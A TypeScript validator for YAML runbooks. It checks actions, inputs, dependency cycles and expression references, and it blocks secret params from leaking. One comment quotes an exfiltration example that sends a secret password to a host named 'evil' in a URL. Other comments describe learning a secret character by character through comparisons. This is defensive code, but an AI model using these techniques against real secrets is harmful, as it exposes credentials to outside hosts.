/**
 * Everything that makes a runbook valid beyond its YAML shape: actions exist, inputs match each action's own zod
 * schema, `needs` names real steps without cycles, expressions parse, and references point at params and steps
 * that exist and that the referring step actually waits for. Every problem is collected, each with file:line:col,
 * so a user fixes a runbook in one pass.
 *
 * The semantic checks read the raw document leniently (not the zod result), so a typo in one field does not hide
 * an unknown action in another.
 */
import {z} from 'zod'
import type {ActionDefinition} from '../actions/types.js'
import {findAction as registryFind, listActions as registryList} from '../actions/registry.js'
import type {Problem, SourceLocation} from '../errors.js'
import {isDuration} from '../support/duration.js'
import {closestName} from '../support/closest-name.js'
import {hintIssues} from '../catalog/hints.js'

export {closestName}
import {describePath, zodProblems, type PathSegment, type YamlSource} from '../support/yaml-source.js'
import {compileParamPattern} from '../support/pattern.js'
import {findCycles, formatCycle, Reachability, type DagNode} from './dag.js'
import {
  checkExpression,
  checkExpressions,
  conditionExpression,
  containsExpression,
  expressionReferences,
  listReferences,
  RUN_KEYS,
  secretSteering,
  type ExpressionReference,
} from './expressions.js'
import type {Runbook} from './model.js'
import {coerceParam} from './params.js'
import {calledRunbook, finallyStepId, needsList, runbookSchema, type RunbookInput} from './schema.js'

/** Where actions are looked up; the registry by default, replaceable in tests. */
export interface ActionLookup {
  find(name: string): ActionDefinition | undefined
  names(): string[]
}

export const registryLookup: ActionLookup = {
  find: (name) => registryFind(name),
  names: () => registryList().map((a) => a.name),
}

export interface RunbookValidation {
  /** The schema-valid document, when the schema accepted it (there may still be semantic problems). */
  input?: RunbookInput
  problems: Problem[]
}

/** Validate a parsed runbook document: YAML problems, schema, then the semantic checks. */
export function validateRunbookSource(source: YamlSource, actions: ActionLookup = registryLookup, calls?: CallLookup): RunbookValidation {
  const problems: Problem[] = [...source.problems]
  if (source.value === undefined && problems.length > 0) return {problems}
  const parsed = runbookSchema.safeParse(source.value ?? {})
  if (!parsed.success) {
    // The catalog's typo help for values and missing fields: `kind: incidnet` said zod's "Invalid option: expected one
    // of …" with no hint, where a misspelt action or input names the closest one.
    const issues = hintIssues(parsed.error.issues, source.value)
    problems.push(...zodProblems({issues} as typeof parsed.error, source).map((p) => withFieldSuggestion(p)))
  }
  problems.push(...semanticProblems(source.value, source, actions, calls))
  problems.sort((a, b) => (a.location?.line ?? 0) - (b.location?.line ?? 0) || (a.location?.column ?? 0) - (b.location?.column ?? 0))
  return {input: parsed.success ? parsed.data : undefined, problems}
}

/** What `steps.<id>` holds in expressions. */
const STEP_KEYS = ['outputs', 'status', 'error']
const STEP_FIELDS = ['id', 'name', 'uses', 'with', 'needs', 'if', 'timeout', 'retry', 'rollback', 'continueOnError', 'forEach', 'steps', 'finally', 'outputs']
/** Fields of `item` in the expressions of a forEach step. */
export const ITEM_KEYS = ['key', 'name', 'type', 'resourceGroup', 'component'] as const
const PARAM_FIELDS = ['type', 'description', 'default', 'required', 'values', 'component', 'min', 'max', 'pattern']

/** Add "did you mean" to an unknown-field problem (`timout` → `timeout`), from the fields allowed where it sits. */
function withFieldSuggestion(problem: Problem): Problem {
  const match = /^unknown field "(.*?)"(?: in (.*))?$/.exec(problem.message)
  if (problem.code !== 'unknown-field' || !match) return problem
  const where = match[2] ?? ''
  const fields = where === ''
    ? Object.keys(runbookSchema.shape)
    : /^((steps|finally)\[\d+\]\.)*(steps|finally)\[\d+\]$/.test(where)
      ? STEP_FIELDS
      : /^params\.[^.]+$/.test(where)
        ? PARAM_FIELDS
        : where.endsWith('.retry')
          ? ['attempts', 'backoff']
          : where.endsWith('.rollback')
            ? ['uses', 'with']
            : []
  // A field that exists but not for this param's type (`pattern` on a secret): suggesting the same name again helped
  // nobody ('unknown field "pattern" (did you mean "pattern"?)').
  if (fields.includes(match[1]!)) return {...problem, message: `${problem.message}: it is not allowed for this ${/^params\./.test(where) ? "param's type" : 'kind of entry'}`}
  const close = closestName(match[1]!, fields)
  return close ? {...problem, message: `${problem.message} (did you mean "${close}"?)`} : problem
}

type Phase = 'main' | 'finally'

interface StepEntry {
  id: string
  phase: Phase
  path: PathSegment[]
  /** Whether the id was written (finally steps may leave it out). */
  explicitId: boolean
  uses?: string
  with?: Record<string, unknown>
  needs: string[]
  if?: string
  rollback?: {uses?: string; with?: Record<string, unknown>}
  /** The raw `forEach:` value, when the step has one. */
  forEach?: unknown
}

interface ParamEntry {
  name: string
  type?: string
  raw: Record<string, unknown>
}

/** Which steps (lower-case ids) an expression may read. */
interface StepScope {
  has(id: string): boolean
}

/** Loads the runbooks a runbook calls (`uses: runbook:<ref>`), validated; a problem when it cannot. */
export interface CallLookup {
  load(reference: string): {runbook: Runbook} | {problem: string}
}

/** What the steps of one list (the runbook's, or a group's) may see from around them. */
interface ListScope {
  /** Ids (lower-case) visible from outside the list, e.g. what a group may read. */
  outerById: Map<string, StepEntry>
  outerAllowed: StepScope
  inForEach: boolean
}

/** Semantic problems of a raw runbook document. */
export function semanticProblems(value: unknown, source: YamlSource, actions: ActionLookup = registryLookup, calls?: CallLookup): Problem[] {
  const doc = isObject(value) ? value : {}
  const params = readParams(doc.params)
  const problems: Problem[] = []
  const at = (path: PathSegment[], options?: {key?: boolean}) => source.locate(path, options)
  const push = (path: PathSegment[], code: string, message: string, options?: {key?: boolean; expression?: string}) =>
    problems.push({location: options?.expression ? pointAt(source, at(path), options.expression) : at(path, options), code, message})

  // Names the expression library cannot hold as keys (its dictionaries index by a plain object).
  for (const param of params)
    if (isReservedName(param.name)) push(['params', param.name], 'reserved-name', `param name "${param.name}" is reserved; choose another name`, {key: true})
  const paramNames = params.map((p) => p.name)
  const secretParams = new Set(params.filter((p) => p.type === 'secret').map((p) => p.name.toLowerCase()))
  // A secret param read in an `if:` other than to test whether it is empty (README, secrets): `contains`,
  // `startsWith`, comparisons, `length`… would let the runbook learn the secret a character at a time (issue 16).
  const readsSecretParam = (reference: {context: string; path: string[]; computed: boolean}) =>
    secretParams.size > 0 && reference.context === 'params' && (reference.path.length === 0 || secretParams.has(reference.path[0]!.toLowerCase()) || (reference.computed && reference.path.length === 0))

  const checkList = (node: Record<string, unknown>, base: PathSegment[], outer: ListScope): void => {
    const steps = [...readSteps(node.steps, 'main', base), ...readSteps(node.finally, 'finally', base)]
    for (const step of steps)
      if (step.explicitId && isReservedName(step.id)) push([...step.path, 'id'], 'reserved-name', `step id "${step.id}" is reserved; choose another id`)

    // Duplicate ids (case-insensitive: expressions are).
    const seen = new Map<string, StepEntry>()
    for (const step of steps) {
      const key = step.id.toLowerCase()
      const first = seen.get(key)
      if (first) push(step.explicitId ? [...step.path, 'id'] : step.path, 'duplicate-step', `duplicate step id "${step.id}" (first used at line ${at(first.path).line})`)
      else seen.set(key, step)
    }
    // The first step with an id is the one references mean; later duplicates are reported above. Inner ids shadow outer ones.
    const byId = new Map([...outer.outerById, ...seen])
    const allIds = [...new Set([...[...outer.outerById.values()].map((s) => s.id), ...steps.map((s) => s.id)])]

    // Actions and their inputs; groups and runbook calls.
    for (const step of steps) {
      const raw = lookupRaw(doc, step.path) as Record<string, unknown>
      const isGroup = raw.steps !== undefined
      const reference = calledRunbook(step.uses)
      if (step.uses === undefined && !isGroup) push(step.path, 'missing-uses', `step "${step.id}" needs either uses: (an action or runbook:<name>) or steps: (a group)`)
      else if (step.uses !== undefined && isGroup) push([...step.path, 'steps'], 'invalid-group', `step "${step.id}" has both uses: and steps:; a step either runs an action or holds a group`, {key: true})
      else if (isGroup && step.with !== undefined) push([...step.path, 'with'], 'invalid-group', `group "${step.id}" cannot take with: (only actions and runbook calls do); its steps read what they need directly`, {key: true})
      else if (!isGroup && (raw.finally !== undefined || raw.outputs !== undefined))
        push([...step.path, raw.finally !== undefined ? 'finally' : 'outputs'], 'invalid-group', `step "${step.id}": finally: and outputs: belong to a group (a step with steps:)`, {key: true})
      else if ((isGroup || reference !== undefined) && raw.retry !== undefined)
        push([...step.path, 'retry'], 'invalid-group', `step "${step.id}": retry applies to an action; put it on the steps inside`, {key: true})
      else if (reference !== undefined) problems.push(...runbookCallProblems(reference, step, source, calls))
      else if (step.uses !== undefined) problems.push(...callProblems({uses: step.uses, with: step.with}, step.path, source, actions))
      if (step.rollback?.uses !== undefined) problems.push(...callProblems(step.rollback as {uses: string}, [...step.path, 'rollback'], source, actions))
      if (base.length > 0 && step.forEach !== undefined)
        push([...step.path, 'forEach'], 'invalid-foreach', `step "${step.id}": forEach inside a group is not supported; put forEach on the group, whose steps then see item`, {key: true})
    }

    // needs: unknown steps, and the phase rule (finally steps wait only for finally steps).
    const nodes: Record<Phase, DagNode[]> = {main: [], finally: []}
    for (const s of steps) nodes[s.phase].push({id: s.id, needs: s.needs})
    const firstById = new Map<string, StepEntry>()
    for (const s of steps) if (!firstById.has(s.id)) firstById.set(s.id, s)
    for (const step of steps) {
      const raw = (isObject(lookupRaw(doc, step.path)) ? (lookupRaw(doc, step.path) as Record<string, unknown>).needs : undefined) as unknown
      step.needs.forEach((need, index) => {
        const path = Array.isArray(raw) ? [...step.path, 'needs', index] : [...step.path, 'needs']
        const target = firstById.get(need)
        if (!target) {
          const phaseIds = steps.filter((s) => s.phase === step.phase).map((s) => s.id)
          const outside = base.length > 0 && outer.outerById.has(need.toLowerCase()) ? '; a step of a group needs only steps of its group (put outside needs on the group)' : ''
          push(path, 'unknown-step', `step "${step.id}" needs "${need}", which is not a step${outside}${suggest(need, phaseIds)}`)
        } else if (target.phase !== step.phase) {
          push(
            path,
            'invalid-needs',
            step.phase === 'finally'
              ? `finally step "${step.id}" needs "${need}": finally steps run after all steps and can only need other finally steps`
              : `step "${step.id}" needs finally step "${need}": finally steps run last`,
          )
        }
      })
    }
    for (const phase of ['main', 'finally'] as const) {
      for (const cycle of findCycles(nodes[phase])) {
        const first = steps.find((s) => s.phase === phase && s.id === cycle[0])!
        push([...first.path, 'needs'], 'cycle', `dependency cycle: ${formatCycle(cycle)}`)
      }
    }

    // Expressions: syntax, then references.
    // A step may read the steps it depends on (finally steps: every main step too; a rollback: its own step), and
    // in a group whatever the group itself may read.
    const reachability = {main: new Reachability(nodes.main), finally: new Reachability(nodes.finally)}
    const mainIds = new Set(nodes.main.map((n) => n.id.toLowerCase()))
    const ownIds = new Set(steps.map((s) => s.id.toLowerCase()))
    const scopeOf = (step: StepEntry, rollback: boolean): StepScope => ({
      has: (id: string) =>
        (rollback && id === step.id.toLowerCase()) ||
        (step.phase === 'finally' && mainIds.has(id)) ||
        reachability[step.phase].reaches(step.id, id) ||
        (!ownIds.has(id) && outer.outerAllowed.has(id)),
    })
    const checkRefs = (references: ExpressionReference[], path: PathSegment[], scope: RefScope) => {
      for (const reference of references) {
        const message = referenceProblem(reference, scope)
        if (message) push([...path, ...reference.location], message.code, message.message, {expression: reference.expression})
      }
    }
    const checkSyntax = (value: unknown, path: PathSegment[]) => {
      const problems = checkExpressions(value)
      for (const problem of problems) push([...path, ...problem.path], 'bad-expression', problem.message, {expression: problem.expression})
      // A value computed by comparing or searching a secret param (`message: ${{ contains(params.pw, 'a') }}` would
      // print true or false) fails its step when evaluated whatever the secret is (expressions.ts): said here, before
      // the run changes anything, as a condition's is.
      if (secretParams.size === 0) return
      const seen = new Set<string>()
      for (const reference of listReferences(value ?? {})) {
        const key = `${reference.location.join('\u0000')}\u0001${reference.expression}`
        if (reference.context !== 'params' || seen.has(key)) continue
        seen.add(key)
        const steering = secretSteering(reference.expression, readsSecretParam, 'passthrough')
        if (steering)
          push(
            [...path, ...reference.location],
            'secret-in-expression',
            `${steering} is a secret: a value may carry it (redacted) or test whether it is empty (${steering} != ''), but not choose by comparing or searching it (==, <, contains, startsWith, a computed index…), which would tell its characters, nor parse it with fromJSON (whether it parses tells its shape)`,
            {expression: reference.expression},
          )
      }
    }
    // A secret param read in an input that leaves the machine (issue 16: `http.check url: https://evil/${{ params.pw }}`
    // sent it in the request line): only inputs an action declares secret or local may read one (ActionDefinition).
    const checkSentOut = (uses: string, given: unknown, path: PathSegment[]) => {
      if (secretParams.size === 0 || !isObject(given)) return
      const action = actions.find(uses)
      if (!action) return
      const kept = new Set([...(action.secretInputs ?? []), ...(action.localInputs ?? [])])
      for (const [name, value] of Object.entries(given)) {
        if (kept.has(name)) continue
        const reference = listReferences(value).find((r) => readsSecretParam({context: r.context, path: r.path, computed: r.path.length === 0}))
        if (reference)
          push(
            [...path, name, ...reference.location],
            'secret-sent-out',
            `${[reference.context, ...reference.path].join('.')} is a secret, and input ${name} of ${action.name} is sent out of this machine (to Azure or another host), where redaction cannot follow it; a secret may only reach inputs meant for one${kept.size > 0 ? ` (${[...kept].join(', ')})` : ''}`,
            {expression: reference.expression},
          )
      }
    }
    for (const step of steps) {
      if (step.forEach !== undefined) problems.push(...forEachProblems(step, source, paramNames))
      const inForEach = outer.inForEach || step.forEach !== undefined
      const scope: RefScope = {params: paramNames, byId, allIds, allowedSteps: scopeOf(step, false), referrer: step.id, actions, inForEach}
      checkSyntax(step.with, [...step.path, 'with'])
      checkRefs(listReferences(step.with ?? {}), [...step.path, 'with'], scope)
      if (step.uses !== undefined && calledRunbook(step.uses) === undefined) checkSentOut(step.uses, step.with, [...step.path, 'with'])
      if (step.rollback?.uses !== undefined) checkSentOut(step.rollback.uses, step.rollback.with, [...step.path, 'rollback', 'with'])
      if (step.if !== undefined) {
        let expression: string | undefined
        try {
          expression = conditionExpression(step.if)
        } catch (error) {
          push([...step.path, 'if'], 'bad-expression', (error as Error).message)
        }
        if (expression !== undefined) {
          const message = checkExpression(expression)
          if (message) push([...step.path, 'if'], 'bad-expression', message, {expression})
          else checkRefs(expressionReferences(expression), [...step.path, 'if'], scope)
          const steering = message ? undefined : secretSteering(expression, readsSecretParam)
          if (steering)
            push(
              [...step.path, 'if'],
              'secret-in-condition',
              `${steering} is a secret: a condition may only test whether it is empty (${steering} != '', !${steering}); comparing or searching it (==, contains, startsWith, length…) would let the runbook learn its characters`,
              {expression},
            )
        }
      }
      if (step.rollback?.with) {
        const rollbackScope = {...scope, allowedSteps: scopeOf(step, true), rollback: true}
        checkSyntax(step.rollback.with, [...step.path, 'rollback', 'with'])
        checkRefs(listReferences(step.rollback.with), [...step.path, 'rollback', 'with'], rollbackScope)
      }
      // A group: its steps are a list of their own, seeing what the group sees.
      const raw = lookupRaw(doc, step.path)
      if (isObject(raw) && raw.steps !== undefined && step.uses === undefined)
        checkList(raw, step.path, {outerById: byId, outerAllowed: scopeOf(step, false), inForEach})
    }
    if (node.outputs !== undefined) {
      const scope: RefScope = {
        params: paramNames,
        byId,
        allIds,
        allowedSteps: {has: (id) => ownIds.has(id) || outer.outerAllowed.has(id)},
        actions,
        inForEach: outer.inForEach,
      }
      checkSyntax(node.outputs, [...base, 'outputs'])
      checkRefs(listReferences(node.outputs), [...base, 'outputs'], scope)
    }
  }
  checkList(doc, [], {outerById: new Map(), outerAllowed: {has: () => false}, inForEach: false})

  // Param defaults: their own type rules, and expressions over env/catalog/run only.
  for (const param of params) problems.push(...paramDefaultProblems(param, source))
  return problems
}

/**
 * Problems of `uses: runbook:<ref>` + `with:`: the callee loads (and is valid, without a cycle), every `with` key is
 * one of its params, literal values have the param's type, and every required param without a default is given.
 */
function runbookCallProblems(reference: string, step: StepEntry, source: YamlSource, calls: CallLookup | undefined): Problem[] {
  if (!calls) return []
  const usesAt = source.locate([...step.path, 'uses'])
  const found = calls.load(reference)
  if ('problem' in found) return [{location: usesAt, code: found.problem.includes('cycle') ? 'call-cycle' : 'invalid-call', message: found.problem}]
  const callee = found.runbook
  const declared = Object.keys(callee.params)
  const problems: Problem[] = []
  const given = step.with ?? {}
  for (const [key, value] of Object.entries(given)) {
    const spec = callee.params[key]
    if (!spec) {
      problems.push({
        location: source.locate([...step.path, 'with', key], {key: true}),
        code: 'unknown-param',
        message: `runbook ${callee.name} has no param "${key}"${suggest(key, declared, 'params')}`,
      })
      continue
    }
    if (containsExpression(value) || value === null) continue
    const checked = coerceParam(key, spec, typeof value === 'string' ? value : JSON.stringify(value))
    if ('error' in checked)
      problems.push({location: source.locate([...step.path, 'with', key]), code: 'invalid-param', message: `runbook ${callee.name}: ${checked.error}`})
  }
  for (const [name, spec] of Object.entries(callee.params)) {
    if (name in given || !spec.required) continue
    problems.push({
      location: step.with ? source.locate([...step.path, 'with']) : usesAt,
      code: 'missing-param',
      message: `runbook ${callee.name} needs param "${name}" (${spec.type}${spec.description ? `: ${spec.description}` : ''})`,
    })
  }
  return problems
}

/**
 * Problems of an expression `forEach:`: it must parse and can only read params, env, catalog and run — it is
 * evaluated before the run starts, when no step has run and no item exists.
 */
function forEachProblems(step: StepEntry, source: YamlSource, params: string[]): Problem[] {
  if (typeof step.forEach !== 'string') return []
  const path: PathSegment[] = [...step.path, 'forEach']
  const problems: Problem[] = []
  let expression: string | undefined
  try {
    expression = conditionExpression(step.forEach)
  } catch (error) {
    return [{location: source.locate(path), code: 'bad-expression', message: (error as Error).message}]
  }
  const message = checkExpression(expression)
  if (message) return [{location: pointAt(source, source.locate(path), expression), code: 'bad-expression', message}]
  for (const reference of expressionReferences(expression)) {
    const written = `${reference.context}${reference.path.map((p) => `.${p}`).join('')}`
    let problem: {code: string; message: string} | undefined
    if (reference.context === 'steps' || reference.context === 'item')
      problem = {code: 'invalid-reference', message: `${written}: forEach is evaluated before the run starts and can only use params, env, catalog and run`}
    else
      problem = referenceProblem(reference, {params, byId: new Map(), allIds: [], allowedSteps: new Set(), actions: registryLookup})
    if (problem) problems.push({location: pointAt(source, source.locate(path), expression), ...problem})
  }
  return problems
}

/**
 * Narrow a location from the start of a YAML scalar to the `${{` of `expression` in it, when the expression is
 * written on the scalar's first line as is (not folded or escaped); otherwise keep the scalar's start.
 */
function pointAt(source: YamlSource, location: SourceLocation, expression: string): SourceLocation {
  const line = source.text.split(/\r?\n/)[location.line - 1]
  if (line === undefined) return location
  const from = location.column - 1
  const found = line.indexOf(expression, from)
  if (found === -1) return location
  const open = line.lastIndexOf('${{', found)
  return {...location, column: (open >= from ? open : found) + 1}
}

interface RefScope {
  params: string[]
  byId: Map<string, StepEntry>
  allIds: string[]
  /** Lower-cased ids whose outputs the referrer may read. */
  allowedSteps: StepScope
  referrer?: string
  rollback?: boolean
  actions: ActionLookup
  /** Param defaults: only env, catalog and run. */
  noParamsOrSteps?: boolean
  /** The referrer is a forEach step: `item` is set, and `steps.<forEach step>` means the same item's instance. */
  inForEach?: boolean
}

function referenceProblem(reference: ExpressionReference, scope: RefScope): {code: string; message: string} | undefined {
  const [first, second, third] = reference.path
  const written = `${reference.context}${reference.path.map((p) => `.${p}`).join('')}`
  if (scope.noParamsOrSteps && (reference.context === 'params' || reference.context === 'steps' || reference.context === 'item'))
    return {code: 'invalid-reference', message: `${written}: a param default can only use env, catalog and run`}
  switch (reference.context) {
    case 'item': {
      if (!scope.inForEach) return {code: 'invalid-reference', message: `${written}: item is only set in a step with forEach`}
      if (first === undefined || ITEM_KEYS.some((k) => k.toLowerCase() === first.toLowerCase())) return undefined
      return {code: 'unknown-reference', message: `${written}: item has no field "${first}"${suggest(first, [...ITEM_KEYS], 'fields')}`}
    }
    case 'params': {
      if (first === undefined || scope.params.some((p) => p.toLowerCase() === first.toLowerCase())) return undefined
      return {code: 'unknown-param', message: `${written}: no param "${first}"${suggest(first, scope.params, 'declared')}`}
    }
    case 'run': {
      if (first === undefined || RUN_KEYS.some((k) => k.toLowerCase() === first.toLowerCase())) return undefined
      return {code: 'unknown-reference', message: `${written}: the run context has ${RUN_KEYS.join(', ')}${suggest(first, [...RUN_KEYS])}`}
    }
    case 'steps': {
      if (first === undefined) return undefined
      const target = scope.byId.get(first.toLowerCase())
      if (!target) return {code: 'unknown-step', message: `${written}: no step "${first}"${suggest(first, scope.allIds)}`}
      if (scope.referrer !== undefined && target.id.toLowerCase() === scope.referrer.toLowerCase() && !scope.rollback)
        return {code: 'self-reference', message: `${written}: step "${scope.referrer}" cannot read its own outputs or status before it has run`}
      if (second !== undefined && !STEP_KEYS.includes(second.toLowerCase()))
        return {code: 'unknown-reference', message: `${written}: a step has "outputs", "status" and "error"${suggest(second, STEP_KEYS)}`}
      // From outside a forEach, the outputs of a forEach step are a map itemKey → outputs: no output names to check.
      const perItem = target.forEach === undefined || scope.inForEach
      if (perItem && second?.toLowerCase() === 'outputs' && third !== undefined && target.uses) {
        const keys = outputKeys(scope.actions.find(target.uses))
        if (keys && !keys.some((k) => k.toLowerCase() === third.toLowerCase()))
          return {code: 'unknown-output', message: `${written}: ${target.uses} has no output "${third}"${suggest(third, keys, 'outputs')}`}
      }
      if (!scope.allowedSteps.has(target.id.toLowerCase())) {
        const who = scope.referrer ? `step "${scope.referrer}"` : 'this'
        return {
          code: 'missing-dependency',
          message: `${written}: ${who} reads step "${target.id}" but does not depend on it; add needs: [${target.id}]`,
        }
      }
      return undefined
    }
    default:
      return undefined
  }
}

/** Declared output names of an action, when its output schema is a closed object. */
function outputKeys(action: ActionDefinition | undefined): string[] | undefined {
  const output = action?.output
  if (!(output instanceof z.ZodObject)) return undefined
  const catchall = output._zod.def.catchall
  if (catchall && !(catchall instanceof z.ZodNever)) return undefined
  return Object.keys(output.shape)
}

/** Problems of one `uses` + `with` against the registry and the action's input schema. */
export function callProblems(call: {uses: string; with?: Record<string, unknown>}, path: PathSegment[], source: YamlSource, actions: ActionLookup = registryLookup): Problem[] {
  const problems: Problem[] = []
  const action = actions.find(call.uses)
  if (!action) {
    problems.push({
      location: source.locate([...path, 'uses']),
      code: 'unknown-action',
      message: `unknown action "${call.uses}"${suggest(call.uses, actions.names())}`,
    })
    return problems
  }
  const shape = action.input.shape as Record<string, z.ZodType>
  const names = Object.keys(shape)
  const given = call.with ?? {}
  // A misspelt input is one mistake: report the unknown name, not also the input it was meant to be.
  const meant = new Set<string>()
  for (const [key, value] of Object.entries(given)) {
    const schema = shape[key]
    if (!schema) {
      const close = closestName(key, names.filter((n) => !(n in given)))
      if (close) meant.add(close)
      problems.push({
        location: source.locate([...path, 'with', key], {key: true}),
        code: 'unknown-input',
        message: `${action.name} has no input "${key}"${suggest(key, names, 'inputs')}`,
      })
      continue
    }
    if (containsExpression(value)) continue
    const result = schema.safeParse(value)
    if (!result.success)
      for (const issue of result.error.issues)
        problems.push({
          location: source.locate([...path, 'with', key, ...(issue.path as PathSegment[])]),
          code: 'invalid-input',
          message: `input ${describePath([key, ...(issue.path as PathSegment[])])} of ${action.name}: ${issue.message}`,
        })
  }
  for (const name of names) {
    if (name in given || meant.has(name) || shape[name]!.safeParse(undefined).success) continue
    problems.push({
      location: source.locate(call.with ? [...path, 'with'] : [...path, 'uses']),
      code: 'missing-input',
      message: `${action.name} needs input "${name}"`,
    })
  }
  return problems
}

function paramDefaultProblems(param: ParamEntry, source: YamlSource): Problem[] {
  const problems: Problem[] = []
  const path: PathSegment[] = ['params', param.name]
  const raw = param.raw
  const push = (field: string, code: string, message: string) => problems.push({location: source.locate([...path, field]), code, message})
  const value = raw.default
  const compiled = param.type === 'string' && typeof raw.pattern === 'string' ? compileParamPattern(raw.pattern) : undefined
  if (compiled && 'error' in compiled) push('pattern', 'invalid-value', `params.${param.name}.pattern is not a valid regular expression: ${compiled.error}`)
  if (param.type === 'integer' && typeof raw.min === 'number' && typeof raw.max === 'number' && raw.min > raw.max)
    push('max', 'invalid-value', `params.${param.name}: max (${raw.max}) is below min (${raw.min})`)
  if (value === undefined) return problems
  if (typeof value === 'string' && containsExpression(value)) {
    for (const problem of checkExpressions(value)) push('default', 'bad-expression', problem.message)
    for (const reference of listReferences(value)) {
      const message = referenceProblem(reference, {params: [], byId: new Map(), allIds: [], allowedSteps: new Set(), actions: registryLookup, noParamsOrSteps: true})
      if (message) push('default', message.code, message.message)
    }
    return problems
  }
  switch (param.type) {
    case 'integer':
      if (typeof value === 'number' && typeof raw.min === 'number' && value < raw.min) push('default', 'invalid-value', `params.${param.name}: default ${value} is below min ${raw.min}`)
      if (typeof value === 'number' && typeof raw.max === 'number' && value > raw.max) push('default', 'invalid-value', `params.${param.name}: default ${value} is above max ${raw.max}`)
      break
    case 'enum':
      if (Array.isArray(raw.values) && !raw.values.includes(value))
        push('default', 'invalid-value', `params.${param.name}: default "${String(value)}" is not one of ${raw.values.join(', ')}`)
      break
    case 'datetime':
      if (typeof value === 'string' && Number.isNaN(Date.parse(value)))
        push('default', 'invalid-value', `params.${param.name}: default "${value}" is not an ISO-8601 date-time (or an expression)`)
      break
    case 'duration':
      if (typeof value === 'string' && !isDuration(value)) push('default', 'invalid-value', `params.${param.name}: default "${value}" is not an ISO-8601 duration such as PT15M`)
      break
    case 'string':
      if (typeof value === 'string' && compiled && 'pattern' in compiled && !compiled.pattern.matches(value))
        push('default', 'invalid-value', `params.${param.name}: default "${value}" does not match ${String(raw.pattern)}`)
      break
  }
  return problems
}

/** ` (did you mean "x"?)`, plus the known names when there are few; empty when nothing is close. */
export function suggest(name: string, candidates: readonly string[], noun = 'known'): string {
  const best = closestName(name, candidates)
  const list = candidates.length > 0 && candidates.length <= 12 ? `${noun}: ${candidates.join(', ')}` : ''
  if (best) return ` (did you mean "${best}"?${list ? ` ${list}` : ''})`
  return list ? ` (${list})` : ''
}

function readParams(raw: unknown): ParamEntry[] {
  if (!isObject(raw)) return []
  return Object.entries(raw).map(([name, spec]) => ({
    name,
    type: isObject(spec) && typeof spec.type === 'string' ? spec.type : undefined,
    raw: isObject(spec) ? spec : {},
  }))
}

function readSteps(raw: unknown, phase: Phase, base: PathSegment[] = []): StepEntry[] {
  if (!Array.isArray(raw)) return []
  const entries: StepEntry[] = []
  raw.forEach((item, index) => {
    if (!isObject(item)) return
    const explicitId = typeof item.id === 'string'
    const id = explicitId ? (item.id as string) : phase === 'finally' ? finallyStepId({}, index) : undefined
    if (id === undefined) return
    const needs = typeof item.needs === 'string' || Array.isArray(item.needs) ? needsList(item.needs as string | string[]).filter((n) => typeof n === 'string') : []
    const entry: StepEntry = {id, phase, path: [...base, phase === 'main' ? 'steps' : 'finally', index], explicitId, needs}
    if (typeof item.uses === 'string') entry.uses = item.uses
    if (isObject(item.with)) entry.with = item.with
    if (typeof item.if === 'string' || typeof item.if === 'boolean') entry.if = String(item.if)
    if (item.forEach !== undefined) entry.forEach = item.forEach
    if (isObject(item.rollback)) {
      entry.rollback = {}
      if (typeof item.rollback.uses === 'string') entry.rollback.uses = item.rollback.uses
      if (isObject(item.rollback.with)) entry.rollback.with = item.rollback.with
    }
    entries.push(entry)
  })
  return entries
}

function lookupRaw(doc: Record<string, unknown>, path: PathSegment[]): unknown {
  let node: unknown = doc
  for (const segment of path) {
    if (Array.isArray(node) && typeof segment === 'number') node = node[segment]
    else if (isObject(node)) node = node[String(segment)]
    else return undefined
  }
  return node
}

function isReservedName(name: string): boolean {
  return name.toLowerCase() in Object.prototype || name.toLowerCase() === '__proto__'
}

function isObject(value: unknown): value is Record<string, unknown> {
  return typeof value === 'object' && value !== null && !Array.isArray(value)
}
